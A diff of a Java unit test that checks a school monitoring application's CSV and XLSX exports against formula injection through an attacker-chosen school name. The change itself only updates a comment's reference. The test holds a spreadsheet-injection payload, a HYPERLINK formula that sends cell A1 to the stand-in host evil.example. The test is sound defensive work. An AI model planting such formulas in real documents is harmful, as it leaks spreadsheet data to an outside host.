@@ -15,7 +15,7 @@ import org.junit.jupiter.api.Test;
 
 import ru.nastavnik.programme.SchoolYear;
 
-/** The figures' CSV and XLSX of a school whose name an attacker chose: no cell runs as a formula (issue 13). */
+/** The figures' CSV and XLSX of a school whose name an attacker chose: no cell runs as a formula (docs/security.md). */
 class MonitoringDocumentsTest {
 
     private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Школа\")";
